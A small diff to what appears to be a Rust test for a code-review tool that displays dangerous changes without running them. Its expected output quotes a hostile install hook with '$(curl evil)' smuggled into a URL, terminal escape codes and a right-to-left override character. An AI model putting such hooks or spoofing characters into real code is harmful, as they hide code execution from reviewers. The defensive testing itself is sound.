@@ -541,7 +541,7 @@ fn a_review_shows_what_is_dangerous_and_runs_nothing_of_it() {
         "  - another author than the approved commit's: Other <other@t>",
         "  - binary files: blob",
         "  - links, and submodules, whose contents are elsewhere: link",
-        "  - what isn't shown, or not as a whole: huge (large); long (large); \u{fffd}plain (its name is no text)",
+        "  - what isn't shown, or not as a whole: huge (large); long (cut); \u{fffd}plain (its name is no text)",
         "    commits since then: 2",
         "  +prepare() { npm install atomic; \\u{1b}[2J\\u{202e} x='https://$(curl evil)@host'; }",
         "  +overwrite\\u{d}me",
